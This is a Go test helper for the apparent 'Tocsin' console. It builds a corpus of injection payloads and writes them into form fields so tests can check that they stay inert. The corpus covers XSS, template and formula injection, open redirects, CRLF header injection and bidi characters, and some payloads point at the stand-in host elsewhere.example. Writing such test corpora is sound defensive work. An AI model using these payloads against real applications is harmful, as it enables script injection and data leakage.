// SPDX-FileCopyrightText: The Tocsin contributors
// SPDX-License-Identifier: Apache-2.0

package console_test

import (
	"fmt"
	"strings"
	"sync"
)

// payload is something hostile to write into a field, in neutral words. Whatever runs sets the global rang; markup that
// comes to life leaves an element x-rang or names elsewhere.example.
type payload struct{ class, text string }

// corpus is of our own making: a class of attack each, and the ways around the usual guards.
var corpus = classes(map[string][]string{
	"script": {`<script>rang=1</script>`, `</script><script>rang=1</script>`, `<ScRiPt src=//elsewhere.example/x.js></sCrIpT>`,
		`<script/x-rang>rang=1//`, `<scr<script>ipt>rang=1</scr</script>ipt>`},
	"handler": {`<img src=x onerror=rang=1>`, `<input autofocus onfocus=rang=1>`, `<details open ontoggle=rang=1>`,
		`<body onload=rang=1>`, `<x-rang onfocus=rang=1 tabindex=1 autofocus>`, `<video><source onerror=rang=1></video>`},
	"svg": {`<svg onload=rang=1>`, `<svg><script>rang=1</script></svg>`, `<svg><animate onbegin=rang=1 attributeName=x dur=1s>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=rang=1>`},
	"template": {`{{constructor.constructor('rang=1')()}}`, `${rang=1}`, `<%= rang=1 %>`, `#{rang=1}`, `{{.}}`,
		`<template><x-rang></template>`, `{ children... }`},
	"scheme": {`javascript:rang=1`, `JaVaScRiPt:rang=1`, `java&#9;script:rang=1`, `data:text/html,<script>rang=1</script>`,
		`<a href=javascript:rang=1>quay</a>`, `<iframe src=javascript:parent.rang=1>`},
	"attribute": {`" onfocus=rang=1 autofocus x="`, `' onfocus=rang=1 autofocus x='`, "` onfocus=rang=1 `", `"><x-rang>`,
		`'><x-rang>`, `&quot;><x-rang>`, `" hx-on:click="rang=1`, `" hx-get="//elsewhere.example`,
		`" style="background:url(//elsewhere.example/)`, `" formaction="//elsewhere.example`},
	"markup": {`<base href=//elsewhere.example/>`, `<meta http-equiv=refresh content="0;url=//elsewhere.example/">`,
		`<style>@import'//elsewhere.example/'</style>`, `<iframe srcdoc="<script>parent.rang=1</script>">`,
		`<form action=//elsewhere.example><button>`, `</title></textarea></template><x-rang>`, `<!--`, `--><x-rang>`,
		`]]><x-rang>`, `<link rel=stylesheet href=//elsewhere.example/x.css>`, `<object data=//elsewhere.example/>`},
	"encoded": {`%3Cx-rang%3E`, `\u003cx-rang\u003e`, `&lt;x-rang&gt;`, `+ADw-x-rang+AD4-`, `＜x-rang＞`},
	"bidi":    {"\u202egnaR\u202c", "\u2066quay\u2069", "\u200fquay", "\u2067x\u2069"},
	"hidden":  {"zero\u200bwidth", "\u200d\ufeff", "soft\u00adhyphen", "\u2028quay"},
	"formula": {`=1+1`, `+1+1`, `-1+1`, `@SUM(1;1)`, `=HYPERLINK("//elsewhere.example";"quay")`, `=kettle|' /x'!A1`,
		`;=1+1`, `"=1+1"`, `=IMPORTXML("//elsewhere.example";"//a")`},
	"redirect": {`//elsewhere.example`, `/\elsewhere.example`, `https:elsewhere.example`, `http://quay@elsewhere.example`},
	"header":   {`quay%0d%0aX-Rang:%201`},
	"lines":    {"quay\r\nX-Rang: 1", "quay\nSet-Cookie: rang=1", "\t=1+1", "\r\n=1+1", "\r\n\r\n<x-rang>"},
})

// wrong is what no field takes: invalid text. A field that is longer than any is tried apart.
var wrong = []string{"quay\x00quay", "quay\x1b[31m", "quay\x07", "quay\xff\xfe"}

var order = []string{"formula", "script", "attribute", "handler", "svg", "markup", "scheme", "template", "encoded", "bidi",
	"hidden", "redirect", "header", "lines"}

func classes(by map[string][]string) (all []payload) {
	for i := 0; ; i++ { // one of each class after the other
		before := len(all)
		for _, class := range order {
			if i < len(by[class]) {
				all = append(all, payload{class, by[class][i]})
			}
		}
		if len(all) == before {
			return all
		}
	}
}

// said is what was written into one field.
type said struct {
	where string
	mark  string // by which it is found again
	text  string
	proof string // a piece that must be read as it was written
}

// scribe writes the corpus into fields, each with its own mark, and goes on in the corpus where it stopped.
type scribe struct {
	mu   sync.Mutex
	next int
	all  []*said
	used map[string]int // how often each payload was written
}

// say gives what is written into a field of so many characters. A line holds no line ends.
func (s *scribe) say(where string, most int, line bool) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	mark := fmt.Sprintf("quay%03d", len(s.all))
	it := &said{where: where, mark: mark}
	left := most - len(mark) - 2
	if s.used == nil {
		s.used = map[string]int{}
	}
	var first, rest []string
	for range corpus {
		p := corpus[s.next%len(corpus)]
		if line && strings.ContainsAny(p.text, "\r\n\t\u2028") {
			s.next++
			continue
		}
		if len(p.text)+1 > left {
			break
		}
		s.next, left = s.next+1, left-len(p.text)-1
		s.used[p.text]++
		if p.class == "formula" && len(first) == 0 {
			first = append(first, p.text) // where a spreadsheet would look
			continue
		}
		if strings.HasPrefix(p.text, "<") && it.proof == "" && !strings.ContainsAny(p.text, "\r\n\t") {
			it.proof = p.text
		}
		rest = append(rest, p.text)
	}
	it.text = strings.Join(append(append(first, mark), rest...), " ")
	s.all = append(s.all, it)
	return it.text
}

// unused are payloads that found no field.
func (s *scribe) unused() (texts []string) {
	for _, p := range corpus {
		if s.used[p.text] == 0 {
			texts = append(texts, p.class+": "+p.text)
		}
	}
	return texts
}
